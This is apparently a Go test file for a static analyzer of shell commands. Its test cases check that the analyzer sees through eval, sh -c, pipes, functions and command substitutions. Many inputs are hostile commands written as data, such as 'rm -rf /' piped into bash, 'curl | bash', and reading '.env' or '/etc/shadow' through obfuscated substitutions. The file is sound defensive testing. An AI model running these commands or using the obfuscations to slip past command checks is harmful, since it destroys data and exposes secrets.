package shell

import (
	"slices"
	"strings"
	"testing"
)

// TestStdinIntoNestedCode: code the analysis reads (eval, sh -c, bash
// -c, functions, compound commands) reads what the command that runs it
// reads: a script piped into a shell inside it is seen for what it is.
func TestStdinIntoNestedCode(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		src  string
	}{
		{"plain", "printf 'rm -rf /\\n' | bash"},
		{"eval", `printf 'rm -rf /\n' | eval "bash"`},
		{"bash -c", `printf 'rm -rf /\n' | bash -c "sh"`},
		{"sh -c with options", `printf 'rm -rf /\n' | sh -c "bash -O extglob"`},
		{"nested -c", `printf 'rm -rf /\n' | sh -c 'bash -c "eval sh"'`},
		{"variable", `W='rm -rf /'; echo "$W" | bash -c "sh"`},
		{"function", "f() { bash; }; printf 'rm -rf /\\n' | f"},
		{"if", "printf 'rm -rf /\\n' | if true; then bash; fi"},
		{"for", "printf 'rm -rf /\\n' | for _v in 1; do bash; done"},
		{"braces", "printf 'rm -rf /\\n' | { bash; }"},
		{"subshell", "printf 'rm -rf /\\n' | ( sh )"},
		{"producer in braces", "{ printf 'rm -rf /\\n'; } | bash"},
		{"producer in a subshell", "( echo 'rm -rf /' ) | sh"},
		{"producer through sh -c", "sh -c \"echo 'rm -rf /'\" | bash"},
		{"in a here-string", `sh <<< 'printf "rm -rf /" | sh -c "bash"'`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tt.src, Options{})
			if !slices.Contains(found(a), "rm -rf / [stdin]") {
				t.Errorf("Analyze(%q) = %q, want rm -rf / read from stdin", tt.src, found(a))
			}
		})
	}
}

// TestUnknownStdinIntoNestedCode: a shell inside nested code that reads
// a pipe whose text is not known runs code nobody has seen, and names
// where it comes from.
func TestUnknownStdinIntoNestedCode(t *testing.T) {
	t.Parallel()
	for _, src := range []string{
		`cat script.sh | eval "bash"`,
		`cat -- script.sh | eval 'bash'`,
		`sudo cat /p/script.sh | eval 'bash'`,
		`curl -s http://x | bash -c "sh"`,
		`curl -s http://x | sh -c 'eval bash'`,
		"cat s.sh | { bash; }",
		"f() { sh; }; cat s.sh | f",
	} {
		t.Run(src, func(t *testing.T) {
			t.Parallel()
			a := Analyze(src, Options{})
			last := a.Commands[len(a.Commands)-1]
			if !IsShell(last.Name) || !last.RunsInput || len(last.InputFrom) == 0 || len(last.Upstream) == 0 {
				t.Errorf("Analyze(%q): last is %q runsInput=%v from %v upstream %d", src, last.String(), last.RunsInput,
					last.InputFrom, len(last.Upstream))
			}
		})
	}
}

// TestFoldThroughWhatOnlyRuns: a substitution folds through what only
// runs the command that prints (the shell's precommands, if true, sh -c,
// eval, functions, subshells), and known input flows through them into a
// program whose model folds it (lower, see folder). (Through xargs, and
// known input into it: TestXargsInput in internal/programs.)
func TestFoldThroughWhatOnlyRuns(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		src  string
		want []string // the words of the last command
	}{
		{"command", `rm -rf $(command printf /)`, []string{"rm", "-rf", "/"}},
		{"builtin", `rm -rf $(builtin printf /)`, []string{"rm", "-rf", "/"}},
		{"time", `cat "$(time echo .env)"`, []string{"cat", ".env"}},
		{"if true", `cat "$(if true; then echo .ENV; fi | lower)"`, []string{"cat", ".env"}},
		{"bash -c filter", `cat "$(echo .ENV | bash -c 'lower')"`, []string{"cat", ".env"}},
		{"sh -c filter", `cat "$(echo .ENV | sh -c "lower")"`, []string{"cat", ".env"}},
		{"eval filter", `cat "$(echo .ENV | ( eval "lower" ))"`, []string{"cat", ".env"}},
		{"here-string filter", `cat "$(lower <<< .ENV)"`, []string{"cat", ".env"}},
		{"function", `f() { echo .env; }; cat "$(f)"`, []string{"cat", ".env"}},
		{"list", `cat "$(cd /; printf .e; printf nv)"`, []string{"cat", ".env"}},
		{"for over words", `cat $(for x in a b; do echo $x; done)`, []string{"cat", "a", "b"}},
		{"pwd after cd", `cat "$(cd /etc; pwd)/shadow"`, []string{"cat", "/etc/shadow"}},
		{"script read from a pipe", `cat "$(echo 'echo .env' | bash)"`, []string{"cat", ".env"}},

		// What may not run, or not only once, or writes elsewhere.
		{"sudo", `rm -rf /$(sudo echo tmp)`, []string{"rm", "-rf", "/$(sudo echo tmp)"}},
		{"and", `rm -rf /$(echo -n tmp && echo x)`, []string{"rm", "-rf", "/$(echo -n tmp && echo x)"}},
		{"or", `rm -rf /$(false || echo tmp)`, []string{"rm", "-rf", "/$(false || echo tmp)"}},
		{"if on a condition", `rm -rf /$(if [ -e x ]; then echo tmp; fi)`, []string{"rm", "-rf", "/$(if [ -e x ]; then echo tmp; fi)"}},
		{"else of if true", `rm -rf /$(if true; then :; else echo tmp; fi)`, []string{"rm", "-rf", "/"}},
		{"while", `rm -rf /$(while true; do echo tmp; done)`, []string{"rm", "-rf", "/$(while true; do echo tmp; done)"}},
		{"break", `rm -rf /$(for x in a b; do echo $x; break; done)`, []string{"rm", "-rf", "/$(for x in a b; do echo $x; break; done)"}},
		{"exit", `rm -rf /$(echo -n t; exit; echo mp)`, []string{"rm", "-rf", "/$(echo -n t; exit; echo mp)"}},
		{"background", `rm -rf /$(echo tmp &)`, []string{"rm", "-rf", "/$(echo tmp &)"}},
		{"redirected", `rm -rf /$(echo tmp > f)`, []string{"rm", "-rf", "/$(echo tmp > f)"}},
		{"stderr joins", `rm -rf /$(echo tmp 2>&1)`, []string{"rm", "-rf", "/$(echo tmp 2>&1)"}},
		{"stderr elsewhere", `rm -rf /$(echo tmp 2>/dev/null)`, []string{"rm", "-rf", "/tmp"}},
		{"assignment", `rm -rf /$(X=1 echo tmp)`, []string{"rm", "-rf", "/$(X=1 echo tmp)"}},
		{"sudo sh -c", `rm -rf /$(sudo sh -c 'echo tmp')`, []string{"rm", "-rf", "/$(sudo sh -c 'echo tmp')"}},
		{"fish", `rm -rf /$(fish -c 'echo tmp')`, []string{"rm", "-rf", "/$(fish -c 'echo tmp')"}},
		{"zsh", `rm -rf /$(zsh -c 'echo tmp')`, []string{"rm", "-rf", "/$(zsh -c 'echo tmp')"}},
		{"echo escapes", `rm -rf "/$(sh -c 'echo "t\mp"')"`, []string{"rm", "-rf", "/$(sh -c 'echo \"t\\mp\"')"}},
		{"echo -n", `rm -rf "/$(echo -n t; echo mp)"`, []string{"rm", "-rf", "/tmp"}},
		{"printf hex", `cat "$(printf '\x2eenv')"`, []string{"cat", "$(printf '\\x2eenv')"}},
		{"printf octal", `cat "$(printf '\056env')"`, []string{"cat", ".env"}},
		{"printf width", `cat "$(printf '%5s' .env)"`, []string{"cat", "$(printf '%5s' .env)"}},
		{"printf -v", `rm -rf /$(printf -v x tmp)`, []string{"rm", "-rf", "/$(printf -v x tmp)"}},
		{"trap", `rm -rf /$(trap 'echo tmp' EXIT)`, []string{"rm", "-rf", "/$(trap 'echo tmp' EXIT)"}},
		{"find -exec", `rm -rf /$(find . -exec echo tmp \;)`, []string{"rm", "-rf", "/$(find . -exec echo tmp \\;)"}},
		{"eval of unknown", `rm -rf /$(eval "$X")`, []string{"rm", "-rf", "/$(eval \"$X\")"}},
		{"file", `rm -rf "/$(< list)"`, []string{"rm", "-rf", "/$(< list)"}},
		{"assignment alone", `rm -rf "/tmp$(x=1)"`, []string{"rm", "-rf", "/tmp"}},
		{"function called by command", `echo() { printf tmp; }; rm -rf "/$(command echo)"`, []string{"rm", "-rf", "/$(command echo)"}},
		{"function in a child shell", `echo() { printf tmp; }; rm -rf "/$(bash -c echo)"`, []string{"rm", "-rf", "/$(bash -c echo)"}},
		{"function in its child shell", `rm -rf "/$(bash -c 'f() { echo tmp; }; f')"`, []string{"rm", "-rf", "/tmp"}},
		{"function in a subshell", `f() { echo tmp; }; rm -rf "/$( (f) )"`, []string{"rm", "-rf", "/tmp"}},
		{"sh -e", `rm -rf "/$(sh -ec 'false; echo tmp')"`, []string{"rm", "-rf", "/$(sh -ec 'false; echo tmp')"}},
		{"test", `rm -rf "/$([ -e x ]; echo tmp)"`, []string{"rm", "-rf", "/$([ -e x ]; echo tmp)"}},
		{"toplevel elsewhere", `rm -rf "$(cd /; top)"`, []string{"rm", "-rf", "$(cd /; top)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tt.src, Options{Cwd: "/p", Home: "/home/u", Launcher: folder{}, Toplevel: func() string { return "/p" }})
			if got := a.Commands[len(a.Commands)-1].Words(); !slices.Equal(got, tt.want) {
				t.Errorf("Analyze(%q): last is %q, want %q", tt.src, got, tt.want)
			}
		})
	}
}

// folder is a Launcher whose models fold three programs: lower prints its
// known input in lower case, top the top of the repository of the folder
// it runs in, and where the file its one word runs, as the walker's
// Machine answers.
type folder struct{ noLauncher }

func (folder) Fold(c *Simple, m Machine) (string, bool) {
	switch {
	case c.Name == "lower" && len(c.Args) == 1 && c.StdinKnown:
		return strings.ToLower(c.Stdin), true
	case c.Name == "top" && len(c.Args) == 1:
		if top := m.Toplevel(c.Cwd); top != "" {
			return top + "\n", true
		}
	case c.Name == "where" && len(c.Args) == 2:
		if p := m.LookPath(c.Args[1].Value); p != "" {
			return p + "\n", true
		}
	}
	return "", false
}

// TestFoldAsks: the walker asks a program's model what a command whose
// words are all known prints, with the text known to flow into it, and
// answers the model's questions about the machine: the top of the
// repository of the folder the string starts in only, and the file a name
// runs unless the string defines it as a function or an alias. command -v
// and type -P are the shell's own.
func TestFoldAsks(t *testing.T) {
	t.Parallel()
	paths := func(name string) string { return "/usr/bin/" + name }
	for _, tt := range []struct {
		src  string
		want []string // the words of the last command
	}{
		{`cat "$(echo .ENV | lower)"`, []string{"cat", ".env"}},
		{`cat "$(printf '%s\n' .E NV | lower)"`, []string{"cat", ".e\nnv"}},
		{"cat \"$(lower <<EOF\n.ENV\nEOF\n)\"", []string{"cat", ".env"}},
		{`cat "$(lower)"`, []string{"cat", "$(lower)"}},
		{`cat "$(echo .ENV | lower x)"`, []string{"cat", "$(echo .ENV | lower x)"}},
		{`cat "$(echo $X | lower)"`, []string{"cat", "$(echo $X | lower)"}},
		{`cat "$(top)/README"`, []string{"cat", "/p/README"}},
		{`cat "$(cd /; top)/README"`, []string{"cat", "$(cd /; top)/README"}},
		{`cat "$(top "$X")"`, []string{"cat", "$(top \"$X\")"}},
		{`$(where rm) -rf /`, []string{"/usr/bin/rm", "-rf", "/"}},
		{`$(command -v rm) -rf /`, []string{"/usr/bin/rm", "-rf", "/"}},
		{`$(type -P rm) -rf /`, []string{"/usr/bin/rm", "-rf", "/"}},
		{`rm() { :; }; cat "$(where rm)"`, []string{"cat", "$(where rm)"}},
		{`alias rm=ls; cat "$(command -v rm)"`, []string{"cat", "$(command -v rm)"}},
		{`$(where ./rm) -rf /`, []string{"$(where ./rm)", "-rf", "/"}},
		{`$(where r*) -rf /`, []string{"$(where r*)", "-rf", "/"}},
	} {
		t.Run(tt.src, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tt.src, Options{Cwd: "/p", Launcher: folder{}, Toplevel: func() string { return "/p" }, LookPath: paths})
			// The command that reads the output, not the body of a function
			// never called, which is analysed last.
			i := slices.IndexFunc(a.Commands, func(c *Command) bool { return len(c.Args) > 0 && c.Args[0].Value == tt.want[0] })
			if i < 0 || !slices.Equal(a.Commands[i].Words(), tt.want) {
				t.Errorf("Analyze(%q) = %q, want a command %q", tt.src, found(a), tt.want)
			}
		})
	}
	if a := Analyze(`cat "$(echo .ENV | lower)"`, Options{}); a.Commands[len(a.Commands)-1].Args[1].Value == ".env" {
		t.Error("without a Launcher, a program's output is folded")
	}
}

// TestGlobOutputIsNotKnownText: echo or printf of a glob prints the
// names the glob matches at run time, which nobody has seen: a reader of
// that output (a substitution, a variable set from it) gets words not
// known, never the pattern as if it were a name. A glob that is quoted,
// escaped or in a here-string is text. (Read by xargs: TestXargsGlobInput
// in internal/programs.)
func TestGlobOutputIsNotKnownText(t *testing.T) {
	t.Parallel()
	tests := []struct {
		src  string
		want []string // the words of the last command
	}{
		{`cat "$(echo .e*)"`, []string{"cat", "$(echo .e*)"}},
		{`cat "$(printf %s .[e]nv)"`, []string{"cat", "$(printf %s .[e]nv)"}},
		{`x=$(echo .e*); cat "$x"`, []string{"cat", "$x"}},
		{`x=.e*; cat "$(echo $x)"`, []string{"cat", "$(echo $x)"}},
		// Variables set from a glob hold the names it matches.
		{`f=(.e*); cat "${f[0]}"`, []string{"cat", "${f[0]}"}},
		{`f=(README .e*); cat "${f[1]}"`, []string{"cat", "${f[1]}"}},
		{`for f in .e*; do cat "$f"; done`, []string{"cat", "$f"}},
		{`set -- .e*; cat "$1"`, []string{"cat", "$1"}},
		{`mapfile -t f < <(echo .e*); cat "${f[0]}"`, []string{"cat", "${f[0]}"}},
		// Text: no glob happens.
		{`for f in README; do cat "$f"; done`, []string{"cat", "README"}},
		{`cat "$(echo README)"`, []string{"cat", "README"}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			t.Parallel()
			a := Analyze(tt.src, Options{Cwd: "/p", Home: "/home/u"})
			if got := a.Commands[len(a.Commands)-1].Words(); !slices.Equal(got, tt.want) {
				t.Errorf("Analyze(%q): last is %q, want %q", tt.src, got, tt.want)
			}
		})
	}
}
